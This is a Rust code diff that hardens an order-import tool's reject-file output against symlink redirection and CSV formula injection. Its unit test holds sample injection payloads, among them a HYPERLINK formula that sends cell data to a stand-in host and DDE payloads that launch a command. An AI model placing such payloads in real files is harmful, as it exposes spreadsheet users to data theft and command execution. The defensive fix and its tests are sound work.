@@ -20,6 +20,8 @@ use serde::Serialize;
 use sqlx::{Connection, PgConnection};
 use tokio::sync::mpsc;
 
+use crate::private_file::PrivateDir;
+
 use super::reader::{Checks, FileShape, OrderReader, Reason, Record};
 
 /// How to run one import.
@@ -306,33 +308,48 @@ impl Quarantine {
     }
 }
 
-/// The reject file, written beside its final name and renamed into place
-/// at the end; removed if the import fails.
+/// The reject file, written in a private directory beside its final name
+/// (see [`crate::private_file`]: a symlink planted at a predictable name
+/// cannot redirect it) and renamed into place at the end; removed with
+/// that directory if the import fails.
 struct RejectFile {
     path: PathBuf,
+    dir: PrivateDir,
     tmp: PathBuf,
     writer: Option<csv::Writer<BufWriter<File>>>,
 }
 
 impl RejectFile {
     fn create(path: &Path) -> anyhow::Result<Self> {
-        let mut tmp = path.as_os_str().to_owned();
-        tmp.push(".partial");
-        let tmp = PathBuf::from(tmp);
-        let file = File::create(&tmp)
-            .with_context(|| format!("creating the reject file {}", tmp.display()))?;
+        let dir = PrivateDir::beside(path, "stockops-rejects").with_context(|| {
+            format!(
+                "creating a private directory beside the reject file {}",
+                path.display()
+            )
+        })?;
+        let (tmp, file) = dir
+            .create("rejects.csv.partial")
+            .with_context(|| format!("creating the reject file in {}", dir.path().display()))?;
         let mut writer = csv::Writer::from_writer(BufWriter::new(file));
         writer.write_record(["line_number", "reason", "detail", "raw_line"])?;
         Ok(Self {
             path: path.to_path_buf(),
+            dir,
             tmp,
             writer: Some(writer),
         })
     }
 
+    /// One reject. The text cells are made inert for spreadsheets
+    /// ([`spreadsheet_safe`]): the file is opened by people, in Excel.
     fn write(&mut self, line: u64, reason: Reason, detail: &str, raw: &str) -> anyhow::Result<()> {
         let w = self.writer.as_mut().expect("open until persisted");
-        w.write_record([line.to_string().as_str(), reason.as_str(), detail, raw])?;
+        w.write_record([
+            line.to_string().as_str(),
+            reason.as_str(),
+            &spreadsheet_safe(detail),
+            &spreadsheet_safe(raw),
+        ])?;
         Ok(())
     }
 
@@ -346,16 +363,34 @@ impl RejectFile {
         file.sync_all()?;
         std::fs::rename(&self.tmp, &self.path)
             .with_context(|| format!("renaming the reject file to {}", self.path.display()))?;
+        let _ = std::fs::remove_dir(self.dir.path());
         Ok(())
     }
 }
 
-impl Drop for RejectFile {
-    fn drop(&mut self) {
-        if self.writer.is_some() {
-            let _ = std::fs::remove_file(&self.tmp);
-        }
+/// A cell a spreadsheet will show as text, never run as a formula (OWASP's
+/// CSV injection guidance): a cell starting with `=`, `+`, `-`, `@`, a tab
+/// or a carriage return gets a leading `'`. A cell that is a plain number
+/// (`-3`, `-12.50`) is left as it is: a spreadsheet reads it as that
+/// number, and a negative quantity or price in a rejected line stays
+/// readable. The quarantine table keeps every line exactly as read.
+pub fn spreadsheet_safe(cell: &str) -> std::borrow::Cow<'_, str> {
+    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    if risky && !is_plain_number(cell) {
+        format!("'{cell}").into()
+    } else {
+        cell.into()
     }
+}
+
+/// `-12`, `+3.5`, `-0.25`: a sign, digits, at most one point, digits.
+fn is_plain_number(cell: &str) -> bool {
+    let digits = cell.strip_prefix(['-', '+']).unwrap_or(cell);
+    let (whole, frac) = digits.split_once('.').unwrap_or((digits, ""));
+    !whole.is_empty()
+        && whole.bytes().all(|b| b.is_ascii_digit())
+        && frac.bytes().all(|b| b.is_ascii_digit())
+        && !digits.ends_with('.')
 }
 
 /// The default reject file: `FILE.rejects.csv` beside the input.
@@ -363,4 +398,31 @@ pub fn default_rejects_path(input: &Path) -> PathBuf {
     let mut name = input.as_os_str().to_owned();
     name.push(".rejects.csv");
     PathBuf::from(name)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn formulas_are_neutralised_numbers_kept() {
+        for formula in [
+            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"invoice\")",
+            "+1+cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "\t=1+1",
+            "\r=1+1",
+            "-",
+            "-1e3",
+            "-.5",
+            "-3.",
+        ] {
+            let safe = spreadsheet_safe(formula);
+            assert_eq!(safe, format!("'{formula}"), "{formula:?}");
+        }
+        for kept in ["-3", "-12.50", "+4", "ORD-1,2026-01-02,R001", "", "0.5"] {
+            assert_eq!(spreadsheet_safe(kept), kept, "{kept:?}");
+        }
+    }
 }
